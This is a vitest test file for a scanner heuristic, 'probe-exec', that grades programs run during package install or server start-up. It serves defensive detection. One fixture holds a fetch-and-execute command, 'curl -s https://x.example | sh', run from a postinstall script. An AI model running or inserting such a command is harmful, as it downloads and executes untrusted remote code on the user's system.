import { describe, expect, it } from "vitest";
import { withoutPart } from "../../test/support/heuristic.js";
import { event, probeFacts, withProbe } from "../../test/support/probe-evidence.js";
import { findings } from "../../test/support/run.js";
import h from "./probe-exec.js";

describe("probe-exec", () => {
  it("grades a downloader run from a shell at install high", () => {
    const fs = findings(
      h,
      withProbe(
        probeFacts({
          events: [
            event({
              kind: "exec",
              phase: "install",
              path: "/usr/bin/node",
              argv: ["node", "install.js"],
              script: "x postinstall",
            }),
            event({
              kind: "exec",
              phase: "install",
              path: "/bin/sh",
              argv: ["/bin/sh", "-c", "curl -s https://x.example | sh"],
              script: "x postinstall",
            }),
          ],
        }),
      ),
    );
    expect(fs.map((f) => [f.severity, f.title])).toEqual([
      ["high", "An install script ran a downloader or shell: sh (install: x postinstall)"],
      ["low", "An install script ran build tools: node (install: x postinstall)"],
    ]);
  });

  it("a program started with the server is medium", () => {
    const fs = findings(
      h,
      withProbe(
        probeFacts({ events: [event({ kind: "exec", path: "/usr/bin/uname", argv: ["uname", "-a"] })] }),
      ),
    );
    expect(fs.map((f) => [f.severity, f.title])).toEqual([
      ["medium", "The server ran programs: uname (start-up)"],
    ]);
  });

  it("says nothing of programs a tool call runs, or of none", () => {
    expect(
      findings(
        h,
        withProbe(probeFacts({ events: [event({ kind: "exec", phase: "call", argv: ["git", "log"] })] })),
      ),
    ).toEqual([]);
  });

  it("is skipped without --probe", () => {
    expect(withoutPart(h, "probe")).toEqual({ unavailable: "unknown", skipped: "skipped" });
  });
});
